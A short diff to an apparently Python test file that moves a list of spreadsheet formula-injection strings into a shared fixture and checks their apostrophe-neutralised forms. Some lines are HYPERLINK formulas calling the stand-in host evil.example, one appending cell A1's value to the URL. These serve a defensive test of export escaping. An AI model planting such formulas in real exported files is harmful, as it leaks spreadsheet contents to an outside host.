@@ -18,16 +18,8 @@ from samson.projects import services
 from samson.projects.models import Party, Round
 from samson.results.tests.conftest import answer, grid_answers, parties_of, spec
 
-from .conftest import round_url
+from .conftest import ATTACKS, round_url
 
-ATTACKS = [
-    '=HYPERLINK("http://evil.example/?x="&A1,"klikk")',
-    "+1",
-    "-2+3",
-    "@SUM(A1)",
-    "\t=1",
-    "\r=1",
-]
 NEUTRALISED = ["'" + text for text in ATTACKS]
 PARTY = '=HYPERLINK("http://evil.example/","Kommunen")'
 
